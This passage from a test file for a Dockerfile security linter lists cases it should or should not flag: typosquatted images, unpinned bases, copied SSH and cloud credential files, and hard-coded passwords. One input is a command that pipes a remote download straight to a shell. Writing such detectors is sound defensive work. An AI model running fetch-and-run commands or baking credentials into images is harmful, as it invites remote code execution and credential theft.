      ['FROM a:1\nRUN --mount=from=ngnix,target=/m /m/a', 'High'],
    ],
    catchesNot: [
      'FROM nginx',
      'FROM bitnami/nginx',
      'FROM mono',
      'FROM redis2',
      'FROM eu.gcr.io/a/b',
      'FROM index.docker.io/library/nginx',
      'FROM a AS builde\nFROM builde',
      'FROM $BASE',
      'FROM lscr.io/linuxserver/nginx',
      'FROM scratch',
      'FROM Jenkins',
      'FROM icr.io/a/b',
      'FROM a:1 AS ngnix\nFROM b:1\nCOPY --from=ngnix /a /a',
    ],
  },
  'unpinned-base': {
    catches: [['FROM alpine', 'Informational'], ['FROM r.example:5000/a:latest']],
    catchesNot: [
      'FROM alpine:3.19',
      'FROM alpine@sha256:abc',
      'FROM scratch',
      'FROM a:1 AS b\nFROM b',
    ],
  },
  'secret-file': {
    catches: [
      ['COPY id_rsa /root/.ssh/'],
      ['COPY .aws /root/.aws'],
      ['ADD ["a/.netrc", "/root/"]'],
    ],
    catchesNot: ['COPY id_rsa.pub /k', 'COPY --from=b /etc/server.key /k', 'COPY package.json .'],
  },
  'secret-setting': {
    catches: [['ENV DB_PASSWORD=hunter2'], ['ARG API_KEY=abc123'], ['ENV DB_PASSWORD hunter2']],
    catchesNot: [
      'ARG NPM_TOKEN',
      'ENV GPG_KEY=E3FF2839',
      'ENV DB_PASSWORD_FILE=/run/secrets/x',
      'ENV TOKEN=$TOKEN',
      'ENV ALLOW_EMPTY_PASSWORD=yes',
    ],
  },
  'secret-value': {
    catches: [
      [`ENV T=${gitHub}`, 'High'],
      [`RUN echo "${key}" > /k`, 'High'],
      ['RUN git clone https://me:s3cret@example.org/a.git', 'Medium'],
    ],
    catchesNot: [
      'RUN git clone https://me:$TOKEN@example.org/a.git',
      'ENV A=AKIAIOSFODNN7EXAMPLE',
      'RUN git clone https://example.org/a.git',
    ],
  },
};

describe.each(rules)('$id', (rule) => {
  const { catches, catchesNot } = cases[rule.id] ?? { catches: [], catchesNot: [] };
  it.each(catches)('catches %s', (text, severity) => {
    const found = ruleCatches(rule, text);
    expect(found).toBe(severity ?? found ?? 'something');
  });
  it.each(catchesNot)('does not catch %s', (text) =>
    expect(ruleCatches(rule, text)).toBeUndefined(),
  );
  it('has cases of both kinds, and says what to do', () => {
    expect([catches.length, catchesNot.length]).not.toContain(0);
    expect(rule.why && rule.instead).toBeTruthy();
  });
});

it('has a file for each rule, by its id', () => {
  const files = readdirSync(import.meta.dirname).filter((file) => !/index|test/.test(file));
  expect(rules.map(({ id }) => `${id}.ts`).sort()).toEqual(files.sort());
});

it('never tells the value of a secret', () => {
  const text = `ENV T=${gitHub} DB_PASSWORD=hunter2\nRUN curl https://me:s3cret@example.org/x | sh\n`;
  const told = JSON.stringify(rules.flatMap(({ find }) => find(analyse(text))));
  for (const secret of [gitHub, 'hunter2', 's3cret']) expect(told).not.toContain(secret);
});
